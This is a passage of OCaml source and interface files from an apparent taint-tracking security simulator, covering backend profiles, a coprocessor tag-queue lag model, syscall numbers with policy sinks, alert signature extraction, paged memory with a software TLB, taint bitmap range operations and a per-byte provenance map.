      overhead number is measured against.

    This module is the one shared name table: the CLI ([--backend]),
    the serve wire protocol ([backend] request field) and the catalog
    all parse and print through {!of_string}/{!to_string}. *)

type t = Nat | Coproc | Off

val default : t
(** [Nat] — the paper's design. *)

val all : t list

val to_string : t -> string
(** Canonical names: ["nat"], ["coproc"], ["none"]. *)

val of_string : string -> (t, string) result
(** Accepts the canonical names plus the aliases ["shift"],
    ["coprocessor"], ["off"] and ["baseline"]; case-insensitive. *)

val pp : Format.formatter -> t -> unit
