(** Pluggable taint-tracking backends.

    Every taint touch-point in the simulator goes through this module:
    which events mark taint sources, which propagate tags, which
    evaluate security checks, and what each costs in simulated cycles.
    A {!Backend.t} selects one of three architectures per session (see
    {!Backend} for the design-space story).

    {2 Contract}

    The static side of the contract is {!S}: a backend declares whether
    it needs the per-retired-instruction hook ([per_instr]), whether
    input syscalls taint their buffers ([sources]), whether policies
    are evaluated at all ([checks]), and whether the superblock
    compiler — whose compiled blocks bypass the per-instruction hook —
    may run ([superblocks_ok]).  {!profile} maps a backend to its
    profile; {!create} bakes the profile into a runtime handle.

    The [nat] backend sets [per_instr = false]: SHIFT's propagation is
    performed by the guest's own NaT semantics and instrumentation, so
    the handle is inert and the hot loop pays a single never-taken
    branch.  The [none] backend additionally turns [sources] and
    [checks] off.  Counters under [nat] are bit-identical to the
    repository before backends existed.

    {2 The coproc lag model}

    The [coproc] backend models a decoupled tag coprocessor with an
    asynchronous tag queue (Wahab et al., PAGURUS — see PAPERS.md).
    The main core runs the {e uninstrumented} guest; for each retired
    instruction the machine layer mirrors its taint semantics into a
    {!record} and {!push}es it onto a bounded FIFO, tagging it with the
    current retired-instruction count.  Each retirement {!tick}s the
    coprocessor, which drains up to [drain_rate] records, applying them
    in program order against its private register tag file and the
    byte-granularity memory bitmap.  A {!check} record evaluates when
    it {e drains}, not when the instruction retired: its drain lag
    (retired-count now minus retired-count at enqueue) is the detection
    lag, bounded by [capacity] because a full queue force-drains —
    charging [stall_penalty] simulated cycles to the core
    ({!take_stall} hands the accumulated stall to the pipeline).
    Syscalls are synchronisation barriers: the machine layer
    {!flush}es the queue before the OS model runs, so high-level (H1–H5)
    sink checks never race the queue. *)

module type S = sig
  val backend : Backend.t

  val per_instr : bool
  (** The backend needs a hook on every retired instruction. *)

  val sources : bool
  (** Input syscalls mark their buffers tainted. *)

  val checks : bool
  (** Security policies (low-level and high-level) are evaluated. *)

  val superblocks_ok : bool
  (** The superblock compiler may run (its compiled blocks bypass the
      per-instruction hook). *)
end

module Nat : S
module Coproc : S
module Off : S

val profile : Backend.t -> (module S)

(** {2 Tag-queue records} *)

type check = Load_address | Store_address | Branch_target | Call_target
(** The low-level (L1–L3) check points, mirroring
    {!Shift_machine.Fault.nat_use}. *)

val check_to_string : check -> string
(** The exact strings {!Shift_policy.Policy.alert_of_fault} maps to
    L1/L2/L3 alerts. *)

val check_of_string : string -> check option

type record =
  | Set of { dst : int; tainted : bool }  (** constant / clear idiom *)
  | Move of { dst : int; src : int }
  | Union of { dst : int; s1 : int; s2 : int }
      (** [s2 = Reg.zero] (always clean) when the second operand is an
          immediate *)
  | Load of { dst : int; addr : int64; len : int }
  | Store of { addr : int64; len : int; src : int }
  | Check of { what : check; reg : int }

(** {2 Runtime handle} *)

type t
(** One tracking backend instance.  Shared by every hart of an SMP
    machine and by the OS model: there is one coprocessor (and one tag
    queue) per session, as in the hardware designs. *)

type stats = {
  mutable enqueued : int;
  mutable drained : int;
  mutable stalls : int;  (** pushes that found the queue full *)
  mutable stall_cycles : int;  (** simulated cycles charged for those *)
  mutable checks : int;  (** check records evaluated at drain *)
  mutable alerts : int;
  mutable max_lag : int;  (** worst drain lag seen, in instructions *)
  mutable last_alert_lag : int;
}
(** Host-side diagnostics.  Not part of simulated state: never
    snapshotted, reset on restore (the dump carries everything that
    feeds back into simulation — the queue, the tag file, the retired
    count and the not-yet-charged stall). *)

val default_capacity : int
val default_drain_rate : int
val default_stall_penalty : int

val create :
  ?low_level:bool ->
  ?capacity:int ->
  ?drain_rate:int ->
  ?stall_penalty:int ->
  ?mem:Shift_mem.Memory.t ->
  backend:Backend.t ->
  unit ->
  t
(** [low_level] gates the L1–L3 check records (mirrors
    [Policy.t.low_level]); [mem] binds the guest memory whose
    byte-granularity bitmap the coprocessor reads and writes — required
    before any [Load]/[Store] record drains. *)

val default : t
(** An inert [nat] handle — what a freshly created machine carries
    before a session installs its own. *)

val backend : t -> Backend.t
val per_instr : t -> bool
val sources_on : t -> bool
val checks_on : t -> bool

val low_level_checks : t -> bool
(** [checks_on t && low_level] — whether the machine layer should emit
    [Check] records. *)

val capacity : t -> int
val stats : t -> stats
val queue_length : t -> int

val reg_tag : t -> int -> bool
(** The coprocessor's current tag for a register ([false] on
    non-[per_instr] backends). *)

val tick : t -> unit
(** One instruction retired: advance the lag clock and drain up to
    [drain_rate] records.  May raise {!Shift_policy.Alert.Violation}
    when a draining check finds a tainted tag. *)

val push : t -> record -> unit
(** Enqueue a record; on a full queue, force-drains one record and
    accrues [stall_penalty] cycles.  May raise
    {!Shift_policy.Alert.Violation} from the forced drain. *)

val flush : t -> unit
(** Drain the whole queue (syscall barrier, end of run).  May raise
    {!Shift_policy.Alert.Violation}. *)

val take_stall : t -> int
(** Simulated stall cycles accrued since the last call; the caller
    charges them to the pipeline.  Resets to zero. *)

(** {2 Snapshot support} *)

type dump = {
  d_regs : bool array;
  d_queue : (record * int) list;
  d_retired : int;
  d_pending_stall : int;
}

val export : t -> dump
val import : t -> dump -> unit
