(** System-call numbers: the ABI between compiled guest programs and the
    simulated OS layer.  The number goes in r15, up to six arguments in
    r32-r37, the result comes back in r8. *)

val exit_ : int

(** [read(fd, buf, len)] *)
val read : int

(** [write(fd, buf, len)] *)
val write : int

(** [open(path)] -> fd or -1; policy H1/H2 sink. *)
val open_ : int

val close : int

(** [recv(sock, buf, len)]; network taint source. *)
val recv : int

(** [send(sock, buf, len)] *)
val send : int

(** [sbrk(n)] -> old break. *)
val sbrk : int

(** [sendfile(sock, fd, len)]: kernel-side copy, no guest loads/stores. *)
val sendfile : int

(** [system(cmd)]; policy H4 sink. *)
val system : int

(** [sql_exec(query)]; policy H3 sink. *)
val sql_exec : int

(** [html_out(buf, len)]; policy H5 sink. *)
val html_out : int

(** [taint_set(addr, len, flag)]: explicit taint source. *)
val taint_set : int

(** [taint_chk(addr, len)] -> tainted byte count (for tests). *)
val taint_chk : int

(** Raised by software-DBT inline checks. *)
val dbt_alert : int

(** [accept()] -> socket fd for the next request. *)
val accept : int

(** [spawn(entry, arg)] -> hart id: start a thread (SMP runs only). *)
val spawn : int

(** [join(tid)] -> the thread's result; spins until it finishes. *)
val join : int

(** [fork()] -> child pid in the parent, 0 in the child (process
    runs only). *)
val fork : int

(** [exec(prog, arg)]: replace the image; returns only on failure. *)
val exec : int

(** [wait(pid)] -> exit status of a reaped child; [pid <= 0] waits for
    any child.  Blocks while children run. *)
val wait : int

(** [pipe(buf)]: writes the read fd at [buf] and the write fd at
    [buf+8]. *)
val pipe : int

(** [dup(fd)] -> a new descriptor sharing [fd]'s open object. *)
val dup : int

(** [getpid()] -> the calling process's pid. *)
val getpid : int

(** [getarg(i, buf)] -> length of exec argument [i], copied
    NUL-terminated to [buf] with its taint and provenance; [-1] when
    out of range. *)
val getarg : int

(** Human-readable name, for traces. *)
val name : int -> string
