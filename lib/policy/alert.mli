(** Security alerts raised when a policy detects misuse of tainted
    data. *)

type t = {
  policy : string;   (** e.g. "H1", "L2" *)
  message : string;  (** human-readable description *)
  signature : string option;
      (** For sink alerts: the maximal tainted fragment around the
          violation — the attacker-controlled bytes that made the sink
          dangerous.  This is the paper's intrusion-prevention-signature
          feedback (§1): a filter matching this fragment blocks the
          attack class at the input. *)
  chain : string list;
      (** Provenance chain, oldest hop first, when the run was traced
          with {!Shift_machine.Flowtrace}: which input bytes produced
          the signature fragment and which sink they reached (e.g.
          [["input file:archive.tar[28..38] via sys_read";
            "sink H1 via sys_open"]]).  Empty when tracing is off. *)
}

exception Violation of t
(** Raised out of the running guest when the configured action is to
    stop the program. *)

val make : ?signature:string -> ?chain:string list -> policy:string -> string -> t

val with_chain : t -> string list -> t
(** The same alert carrying a provenance chain. *)

val to_string : t -> string
(** One line; the chain is not included (see {!pp}). *)

val pp : Format.formatter -> t -> unit

val extract_signature : string -> tainted:int list -> around:int -> string option
(** The maximal run of tainted bytes containing (or adjacent to)
    position [around] in the sink string.  [around] is clamped into the
    string, and if the byte at [around] is clean but an immediate
    neighbour is tainted, the run through that neighbour is returned —
    sinks often point one past the attacker-controlled bytes.  [None]
    for the empty string or when neither [around] nor its neighbours
    are tainted. *)
