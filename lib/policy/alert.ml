type t = {
  policy : string;
  message : string;
  signature : string option;
  chain : string list;
}

exception Violation of t

let make ?signature ?(chain = []) ~policy message =
  { policy; message; signature; chain }

let with_chain a chain = { a with chain }

let to_string a =
  match a.signature with
  | None -> Printf.sprintf "[%s] %s" a.policy a.message
  | Some s -> Printf.sprintf "[%s] %s (signature: %S)" a.policy a.message s

let pp ppf a =
  Format.pp_print_string ppf (to_string a);
  List.iter (fun hop -> Format.fprintf ppf "@\n  %s" hop) a.chain

let extract_signature s ~tainted ~around =
  let n = String.length s in
  if n = 0 then None
  else begin
    let is_tainted = Array.make n false in
    List.iter (fun p -> if p >= 0 && p < n then is_tainted.(p) <- true) tainted;
    (* clamp [around] into range, then snap to a tainted byte: itself
       first, else an immediate neighbour — a sink often points one past
       the attacker bytes (a quote, a separator, the terminator) *)
    let around = max 0 (min (n - 1) around) in
    let anchor =
      if is_tainted.(around) then Some around
      else if around > 0 && is_tainted.(around - 1) then Some (around - 1)
      else if around < n - 1 && is_tainted.(around + 1) then Some (around + 1)
      else None
    in
    match anchor with
    | None -> None
    | Some a ->
        let lo = ref a and hi = ref a in
        while !lo > 0 && is_tainted.(!lo - 1) do
          decr lo
        done;
        while !hi < n - 1 && is_tainted.(!hi + 1) do
          incr hi
        done;
        Some (String.sub s !lo (!hi - !lo + 1))
  end
