let page_size = 4096
let page_shift = 12
let page_mask = Int64.of_int (page_size - 1)

(* Direct-mapped software TLB in front of the page hashtable.  Pages are
   allocated once and never replaced or freed, so a cached (key, page)
   pair can never go stale: a hit always returns the live backing store,
   and writes through a hit land in the same bytes the hashtable holds.
   64 entries cover the working set of one simulated program (code pages
   are not in this table; data, stack and the taint bitmap are). *)
let tlb_bits = 6
let tlb_size = 1 lsl tlb_bits

type t = {
  pages : (int64, bytes) Hashtbl.t;
  tlb_keys : int64 array; (* page key per slot; -1 = empty (keys are >= 0) *)
  tlb_pages : bytes array;
  (* Write watch: observers of guest stores into [watch_lo, watch_hi)
     (the superblock compiler watches the code region so stores there
     invalidate covering blocks).  The hot-path cost when nothing is
     watched is one physical list-emptiness check per store. *)
  mutable watch_lo : int64;
  mutable watch_hi : int64;
  mutable watchers : (int64 -> int -> unit) list;
}

let fast_path = ref true

let no_page = Bytes.create 0

let create () =
  {
    pages = Hashtbl.create 1024;
    tlb_keys = Array.make tlb_size (-1L);
    tlb_pages = Array.make tlb_size no_page;
    watch_lo = 0L;
    watch_hi = 0L;
    watchers = [];
  }

let watch t ~lo ~hi f =
  (match t.watchers with
  | [] ->
      t.watch_lo <- lo;
      t.watch_hi <- hi
  | _ ->
      if Int64.unsigned_compare lo t.watch_lo < 0 then t.watch_lo <- lo;
      if Int64.unsigned_compare hi t.watch_hi > 0 then t.watch_hi <- hi);
  t.watchers <- f :: t.watchers

(* Fire the watchers when [a, a+len) intersects the watched range.
   Idempotent observers make double notification through the byte-walk
   fallbacks harmless, so each top-level write path notifies at least
   once without trying to notify exactly once. *)
let notify t a len =
  match t.watchers with
  | [] -> ()
  | ws ->
      if
        len > 0
        && Int64.unsigned_compare a t.watch_hi < 0
        && Int64.unsigned_compare (Int64.add a (Int64.of_int len)) t.watch_lo > 0
      then List.iter (fun f -> f a len) ws

let page_of_key t key =
  match Hashtbl.find_opt t.pages key with
  | Some p -> p
  | None ->
      let p = Bytes.make page_size '\000' in
      Hashtbl.add t.pages key p;
      p

(* The steady-state lookup: one shift, one masked array probe.  Page
   keys are [a >>> 12], hence non-negative, so -1 is a safe empty mark
   and [Int64.to_int] is exact. *)
let page t a =
  let key = Int64.shift_right_logical a page_shift in
  if !fast_path then begin
    let slot = Int64.to_int key land (tlb_size - 1) in
    if Int64.equal (Array.unsafe_get t.tlb_keys slot) key then
      Array.unsafe_get t.tlb_pages slot
    else begin
      let p = page_of_key t key in
      Array.unsafe_set t.tlb_keys slot key;
      Array.unsafe_set t.tlb_pages slot p;
      p
    end
  end
  else page_of_key t key

let read_u8 t a =
  let p = page t a in
  Char.code (Bytes.get p (Int64.to_int (Int64.logand a page_mask)))

let write_u8 t a v =
  let p = page t a in
  Bytes.set p (Int64.to_int (Int64.logand a page_mask)) (Char.chr (v land 0xff));
  notify t a 1

(* Byte-at-a-time reference paths, kept verbatim: the fast paths below
   must be observationally identical to these (differential tests and
   the bench throughput experiment compare the two). *)

let read_ref t a ~width =
  let rec go i acc =
    if i >= width then acc
    else
      let b = read_u8 t (Int64.add a (Int64.of_int i)) in
      go (i + 1) (Int64.logor acc (Int64.shift_left (Int64.of_int b) (8 * i)))
  in
  go 0 0L

let write_ref t a ~width v =
  for i = 0 to width - 1 do
    let b = Int64.to_int (Int64.logand (Int64.shift_right_logical v (8 * i)) 0xffL) in
    write_u8 t (Int64.add a (Int64.of_int i)) b
  done

(* Word-width fast path: an access that stays inside its page is a
   single [Bytes] primitive on the TLB-resident page.  Accesses that
   cross a page boundary (and exotic widths) fall back to the byte
   walk. *)

let read t a ~width =
  let off = Int64.to_int (Int64.logand a page_mask) in
  if !fast_path && off + width <= page_size then
    let p = page t a in
    match width with
    | 8 -> Bytes.get_int64_le p off
    | 4 -> Int64.logand (Int64.of_int32 (Bytes.get_int32_le p off)) 0xffffffffL
    | 2 -> Int64.of_int (Bytes.get_uint16_le p off)
    | 1 -> Int64.of_int (Char.code (Bytes.unsafe_get p off))
    | _ -> read_ref t a ~width
  else read_ref t a ~width

let write t a ~width v =
  let off = Int64.to_int (Int64.logand a page_mask) in
  if !fast_path && off + width <= page_size then begin
    let p = page t a in
    (match width with
    | 8 -> Bytes.set_int64_le p off v
    | 4 -> Bytes.set_int32_le p off (Int64.to_int32 v)
    | 2 -> Bytes.set_uint16_le p off (Int64.to_int v land 0xffff)
    | 1 -> Bytes.unsafe_set p off (Char.chr (Int64.to_int v land 0xff))
    | _ -> write_ref t a ~width v);
    notify t a width
  end
  else write_ref t a ~width v

(* String transfers reuse the page fast path: one blit per page the
   range touches instead of one hashtable probe per character. *)

let read_bytes t a ~len =
  if !fast_path && len > 0 then begin
    let buf = Bytes.create len in
    let rec go pos =
      if pos < len then begin
        let addr = Int64.add a (Int64.of_int pos) in
        let off = Int64.to_int (Int64.logand addr page_mask) in
        let n = min (len - pos) (page_size - off) in
        Bytes.blit (page t addr) off buf pos n;
        go (pos + n)
      end
    in
    go 0;
    Bytes.unsafe_to_string buf
  end
  else String.init len (fun i -> Char.chr (read_u8 t (Int64.add a (Int64.of_int i))))

let write_bytes t a s =
  if !fast_path then begin
    let len = String.length s in
    let rec go pos =
      if pos < len then begin
        let addr = Int64.add a (Int64.of_int pos) in
        let off = Int64.to_int (Int64.logand addr page_mask) in
        let n = min (len - pos) (page_size - off) in
        Bytes.blit_string s pos (page t addr) off n;
        go (pos + n)
      end
    in
    go 0;
    notify t a len
  end
  else String.iteri (fun i c -> write_u8 t (Int64.add a (Int64.of_int i)) (Char.code c)) s

let read_cstring ?(max = 65536) t a =
  if !fast_path then begin
    let buf = Buffer.create 32 in
    let rec go pos =
      if pos < max then begin
        let addr = Int64.add a (Int64.of_int pos) in
        let off = Int64.to_int (Int64.logand addr page_mask) in
        let n = min (max - pos) (page_size - off) in
        let p = page t addr in
        match Bytes.index_from_opt p off '\000' with
        | Some i when i < off + n -> Buffer.add_subbytes buf p off (i - off)
        | _ ->
            Buffer.add_subbytes buf p off n;
            go (pos + n)
      end
    in
    go 0;
    Buffer.contents buf
  end
  else begin
    let buf = Buffer.create 32 in
    let rec go i =
      if i >= max then ()
      else
        let b = read_u8 t (Int64.add a (Int64.of_int i)) in
        if b = 0 then ()
        else begin
          Buffer.add_char buf (Char.chr b);
          go (i + 1)
        end
    in
    go 0;
    Buffer.contents buf
  end

let write_cstring t a s =
  write_bytes t a s;
  write_u8 t (Int64.add a (Int64.of_int (String.length s))) 0

let allocated_pages t = Hashtbl.length t.pages

(* Deep copy for fork: every page is blitted into a fresh table so the
   two address spaces never alias.  The clone starts with a cold TLB and
   no watchers — the child's superblock cache registers its own. *)
let clone t =
  let c = create () in
  Hashtbl.iter (fun key p -> Hashtbl.add c.pages key (Bytes.copy p)) t.pages;
  c

(* ---------- page iteration (checkpoint/restore) ----------

   Pages are exported in ascending key order so a dump of the same
   memory state is byte-identical regardless of hashtable history.
   All-zero pages are skipped: a fresh page is zero-filled, so eliding
   them loses nothing observable and keeps snapshots sparse. *)

let zero_page = Bytes.make page_size '\000'

let fold_pages t ~init ~f =
  let keys =
    Hashtbl.fold (fun k _ acc -> k :: acc) t.pages []
    |> List.sort Int64.unsigned_compare
  in
  List.fold_left
    (fun acc key ->
      let p = Hashtbl.find t.pages key in
      if Bytes.equal p zero_page then acc else f acc key p)
    init keys

let load_page t key data =
  if String.length data <> page_size then
    invalid_arg "Memory.load_page: page data must be exactly page_size bytes";
  let p = page_of_key t key in
  Bytes.blit_string data 0 p 0 page_size
