let get_bit mem g a =
  let byte = Memory.read_u8 mem (Addr.tag_addr g a) in
  byte lsr Addr.tag_bit g a land 1 = 1

let set_bit mem g a v =
  let ta = Addr.tag_addr g a in
  let bit = Addr.tag_bit g a in
  let byte = Memory.read_u8 mem ta in
  let byte = if v then byte lor (1 lsl bit) else byte land lnot (1 lsl bit) in
  Memory.write_u8 mem ta byte

let grain = function Granularity.Byte -> 1 | Granularity.Word -> 8

let popcount8 =
  Array.init 256 (fun n ->
      let rec go n acc = if n = 0 then acc else go (n lsr 1) (acc + (n land 1)) in
      go n 0)

(* ---------- the bit span of a range ----------

   Within one region, guest addresses map to contiguous tag-bitmap bits:
   the grain index (offset at byte granularity, offset/8 at word
   granularity) is the global bit number, so a range [addr, addr+len)
   covers the inclusive bitmap-byte span [tag_addr addr, tag_addr last]
   with partial first/last bytes given by [tag_bit].  The fast range
   operations below walk that span bytes-at-a-time (with 8-byte strides
   on long interior runs) instead of testing one bit per guest byte.
   Ranges that cross a region boundary — where tag bytes jump — take the
   per-bit reference walk. *)

type span = {
  ta0 : int64;  (* first tag byte *)
  ta1 : int64;  (* last tag byte (inclusive) *)
  b0 : int;     (* first bit within ta0 *)
  b1 : int;     (* last bit within ta1 *)
}

let span_of g ~addr ~len =
  let last = Int64.add addr (Int64.of_int (len - 1)) in
  if
    !Memory.fast_path && len > 0
    && Addr.region addr = Addr.region last
    && Int64.unsigned_compare (Addr.offset addr) (Addr.offset last) <= 0
  then
    Some
      {
        ta0 = Addr.tag_addr g addr;
        ta1 = Addr.tag_addr g last;
        b0 = Addr.tag_bit g addr;
        b1 = Addr.tag_bit g last;
      }
  else None

let first_mask b0 = 0xff lsl b0 land 0xff
let last_mask b1 = 0xff lsr (7 - b1)

let update_byte mem ta mask tainted =
  let byte = Memory.read_u8 mem ta in
  let byte = if tainted then byte lor mask else byte land lnot mask in
  Memory.write_u8 mem ta byte

let set_range_ref mem g ~addr ~len ~tainted =
  let step = grain g in
  (* align the walk to the grain so every covered unit is touched *)
  let first = Int64.logand addr (Int64.of_int (lnot (step - 1))) in
  let last = Int64.add addr (Int64.of_int (len - 1)) in
  let a = ref first in
  while Int64.unsigned_compare !a last <= 0 do
    set_bit mem g !a tainted;
    a := Int64.add !a (Int64.of_int step)
  done

let set_range mem g ~addr ~len ~tainted =
  if len > 0 then
    match span_of g ~addr ~len with
    | None -> set_range_ref mem g ~addr ~len ~tainted
    | Some { ta0; ta1; b0; b1 } ->
        if Int64.equal ta0 ta1 then
          update_byte mem ta0 (first_mask b0 land last_mask b1) tainted
        else begin
          update_byte mem ta0 (first_mask b0) tainted;
          update_byte mem ta1 (last_mask b1) tainted;
          let fill8 = if tainted then 0xff else 0 in
          let fill64 = if tainted then -1L else 0L in
          let a = ref (Int64.add ta0 1L) in
          while Int64.unsigned_compare !a ta1 < 0 do
            if
              Int64.logand !a 7L = 0L
              && Int64.unsigned_compare (Int64.add !a 8L) ta1 <= 0
            then begin
              Memory.write mem !a ~width:8 fill64;
              a := Int64.add !a 8L
            end
            else begin
              Memory.write_u8 mem !a fill8;
              a := Int64.add !a 1L
            end
          done
        end

let is_tainted mem g a = get_bit mem g a

let fold_range mem g ~addr ~len f init =
  let acc = ref init in
  for i = 0 to len - 1 do
    let a = Int64.add addr (Int64.of_int i) in
    acc := f !acc i (get_bit mem g a)
  done;
  !acc

(* Masked popcount over the span, walking tag bytes. *)
let span_popcount mem { ta0; ta1; b0; b1 } =
  if Int64.equal ta0 ta1 then
    popcount8.(Memory.read_u8 mem ta0 land (first_mask b0 land last_mask b1))
  else begin
    let count =
      ref
        (popcount8.(Memory.read_u8 mem ta0 land first_mask b0)
        + popcount8.(Memory.read_u8 mem ta1 land last_mask b1))
    in
    let a = ref (Int64.add ta0 1L) in
    while Int64.unsigned_compare !a ta1 < 0 do
      count := !count + popcount8.(Memory.read_u8 mem !a);
      a := Int64.add !a 1L
    done;
    !count
  end

let span_any mem { ta0; ta1; b0; b1 } =
  if Int64.equal ta0 ta1 then
    Memory.read_u8 mem ta0 land (first_mask b0 land last_mask b1) <> 0
  else if Memory.read_u8 mem ta0 land first_mask b0 <> 0 then true
  else if Memory.read_u8 mem ta1 land last_mask b1 <> 0 then true
  else begin
    let found = ref false in
    let a = ref (Int64.add ta0 1L) in
    while (not !found) && Int64.unsigned_compare !a ta1 < 0 do
      if
        Int64.logand !a 7L = 0L
        && Int64.unsigned_compare (Int64.add !a 8L) ta1 <= 0
      then begin
        if not (Int64.equal (Memory.read mem !a ~width:8) 0L) then found := true
        else a := Int64.add !a 8L
      end
      else begin
        if Memory.read_u8 mem !a <> 0 then found := true
        else a := Int64.add !a 1L
      end
    done;
    !found
  end

let any_tainted mem g ~addr ~len =
  match span_of g ~addr ~len with
  | Some span -> span_any mem span
  | None -> fold_range mem g ~addr ~len (fun acc _ b -> acc || b) false

(* [count_tainted] counts tainted guest *bytes*.  At byte granularity
   that is the popcount of the span.  At word granularity each set grain
   bit stands for up to 8 bytes of the range: 8 for interior grains,
   fewer for the (possibly partial) first and last grains. *)
let count_tainted mem g ~addr ~len =
  match span_of g ~addr ~len with
  | None -> fold_range mem g ~addr ~len (fun acc _ b -> if b then acc + 1 else acc) 0
  | Some span -> (
      match g with
      | Granularity.Byte -> span_popcount mem span
      | Granularity.Word ->
          let last = Int64.add addr (Int64.of_int (len - 1)) in
          let g0 = Int64.shift_right_logical (Addr.offset addr) 3 in
          let g1 = Int64.shift_right_logical (Addr.offset last) 3 in
          if Int64.equal g0 g1 then if span_any mem span then len else 0
          else begin
            let bit0 = if get_bit mem g addr then 1 else 0 in
            let bit1 = if get_bit mem g last then 1 else 0 in
            let first_bytes = 8 - Int64.to_int (Int64.logand (Addr.offset addr) 7L) in
            let last_bytes = Int64.to_int (Int64.logand (Addr.offset last) 7L) + 1 in
            let interior = span_popcount mem span - bit0 - bit1 in
            (8 * interior) + (bit0 * first_bytes) + (bit1 * last_bytes)
          end)

let first_tainted mem g ~addr ~len =
  fold_range mem g ~addr ~len
    (fun acc i b -> match acc with Some _ -> acc | None -> if b then Some i else None)
    None

let tainted_string_positions mem g addr s =
  let out = ref [] in
  String.iteri
    (fun i _ ->
      if get_bit mem g (Int64.add addr (Int64.of_int i)) then out := i :: !out)
    s;
  List.rev !out
