(* Paged per-byte source-id shadow.  One page covers the same 4096 guest
   bytes as a Memory page and stores one little-endian int32 id per
   byte; pages appear on first write and are never freed, so a cached
   TLB entry can never go stale (same argument as Memory's TLB).  The
   TLB is direct-mapped with 64 entries, mirroring Memory: the tracing
   hooks touch the data span and its shadow span in alternation, and a
   single entry thrashes on exactly that pattern. *)

let page_bytes = Memory.page_size (* guest bytes per page *)
let page_shift = 12 (* log2 page_bytes, same key space as Memory *)
let page_mask = Int64.of_int (page_bytes - 1)
let slot_size = 4 (* shadow bytes per guest byte *)

let tlb_bits = 6
let tlb_size = 1 lsl tlb_bits

type t = {
  pages : (int64, bytes) Hashtbl.t;
  tlb_keys : int64 array; (* page key per slot; -1 = empty (keys are >= 0) *)
  tlb_pages : bytes array;
}

let no_page = Bytes.create 0

let create () =
  {
    pages = Hashtbl.create 64;
    tlb_keys = Array.make tlb_size (-1L);
    tlb_pages = Array.make tlb_size no_page;
  }

let key_of a = Int64.shift_right_logical a page_shift
let off_of a = Int64.to_int (Int64.logand a page_mask)

let find t a =
  let key = key_of a in
  let slot = Int64.to_int key land (tlb_size - 1) in
  if Int64.equal (Array.unsafe_get t.tlb_keys slot) key then
    Array.unsafe_get t.tlb_pages slot
  else
    match Hashtbl.find_opt t.pages key with
    | Some p ->
        Array.unsafe_set t.tlb_keys slot key;
        Array.unsafe_set t.tlb_pages slot p;
        p
    | None -> no_page

let page t a =
  let key = key_of a in
  let slot = Int64.to_int key land (tlb_size - 1) in
  if Int64.equal (Array.unsafe_get t.tlb_keys slot) key then
    Array.unsafe_get t.tlb_pages slot
  else begin
    let p =
      match Hashtbl.find_opt t.pages key with
      | Some p -> p
      | None ->
          let p = Bytes.make (page_bytes * slot_size) '\000' in
          Hashtbl.add t.pages key p;
          p
    in
    Array.unsafe_set t.tlb_keys slot key;
    Array.unsafe_set t.tlb_pages slot p;
    p
  end

let get t a =
  let p = find t a in
  if p == no_page then 0
  else Int32.to_int (Bytes.get_int32_le p (off_of a * slot_size))

let set t a id =
  let p = page t a in
  Bytes.set_int32_le p (off_of a * slot_size) (Int32.of_int id)

(* Walk [addr, addr+len) one page segment at a time, calling
   [f page off n base] for each segment: [n] guest bytes starting at
   page offset [off], covering range positions [base, base+n).  When
   [skip_missing] the segment is skipped (not allocated) if the page
   does not exist — right for clears and reads, wrong for fills. *)
let segments t ~addr ~len ~skip_missing f =
  let rec go pos =
    if pos < len then begin
      let a = Int64.add addr (Int64.of_int pos) in
      let off = off_of a in
      let n = min (len - pos) (page_bytes - off) in
      let p = if skip_missing then find t a else page t a in
      if not (skip_missing && p == no_page) then f p off n pos;
      go (pos + n)
    end
  in
  go 0

let set_range t ~addr ~len ~id =
  if len > 0 then
    if id = 0 then
      segments t ~addr ~len ~skip_missing:true (fun p off n _ ->
          Bytes.fill p (off * slot_size) (n * slot_size) '\000')
    else begin
      let id32 = Int32.of_int id in
      segments t ~addr ~len ~skip_missing:false (fun p off n _ ->
          for i = 0 to n - 1 do
            Bytes.set_int32_le p ((off + i) * slot_size) id32
          done)
    end

let set_span t ~addr ~len ~first =
  if len > 0 then
    segments t ~addr ~len ~skip_missing:false (fun p off n base ->
        for i = 0 to n - 1 do
          Bytes.set_int32_le p ((off + i) * slot_size)
            (Int32.of_int (first + base + i))
        done)

let first_id t ~addr ~len =
  let found = ref 0 in
  (if len > 0 then
     try
       segments t ~addr ~len ~skip_missing:true (fun p off n _ ->
           for i = 0 to n - 1 do
             let id = Int32.to_int (Bytes.get_int32_le p ((off + i) * slot_size)) in
             if id <> 0 && !found = 0 then begin
               found := id;
               raise Exit
             end
           done)
     with Exit -> ());
  !found

let allocated_pages t = Hashtbl.length t.pages

(* Deep copy for fork: the child inherits the parent's per-byte source
   ids (its memory image is a byte copy, so the shadow must match). *)
let clone t =
  let c = create () in
  Hashtbl.iter (fun key p -> Hashtbl.add c.pages key (Bytes.copy p)) t.pages;
  c

(* Page iteration for checkpoint/restore: ascending key order, all-zero
   pages elided (a missing page reads as id 0 everywhere). *)

let zero_page = Bytes.make (page_bytes * slot_size) '\000'

let fold_pages t ~init ~f =
  let keys =
    Hashtbl.fold (fun k _ acc -> k :: acc) t.pages []
    |> List.sort Int64.unsigned_compare
  in
  List.fold_left
    (fun acc key ->
      let p = Hashtbl.find t.pages key in
      if Bytes.equal p zero_page then acc else f acc key p)
    init keys

let load_page t key data =
  if String.length data <> page_bytes * slot_size then
    invalid_arg "Provenance.load_page: wrong page size";
  let p =
    match Hashtbl.find_opt t.pages key with
    | Some p -> p
    | None ->
        let p = Bytes.make (page_bytes * slot_size) '\000' in
        Hashtbl.add t.pages key p;
        p
  in
  Bytes.blit_string data 0 p 0 (page_bytes * slot_size)
