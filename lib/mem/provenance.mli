(** Per-byte provenance shadow map.

    Alongside the taint bitmap (which says {e whether} a guest byte is
    tainted) the Flowtrace subsystem keeps a second shadow: {e which
    input source} each byte came from.  Every guest byte maps to a small
    non-negative integer source id; id [0] means "no recorded source".
    The ids themselves are interned to [source] records by
    {!Shift_machine.Flowtrace} — this module only stores and moves them.

    The map is paged exactly like {!Memory} (4096 guest bytes per page,
    allocated on first write) with a single-entry TLB in front, and the
    span operations mirror the shape of {!Taint.set_range}: one masked
    walk per page the range touches rather than one hashtable probe per
    byte.  Reads of never-written pages return [0] without allocating. *)

type t

val create : unit -> t

val get : t -> int64 -> int
(** [get t a] is the source id of guest byte [a], or [0]. *)

val set : t -> int64 -> int -> unit
(** [set t a id] records source [id] for guest byte [a]. *)

val set_range : t -> addr:int64 -> len:int -> id:int -> unit
(** Constant fill: every byte of [addr, addr+len) gets [id].  Clearing
    ([id = 0]) an unallocated page is free. *)

val set_span : t -> addr:int64 -> len:int -> first:int -> unit
(** Consecutive fill: byte [addr + k] gets id [first + k].  Used when a
    fresh input span is interned as a run of per-byte sources. *)

val first_id : t -> addr:int64 -> len:int -> int
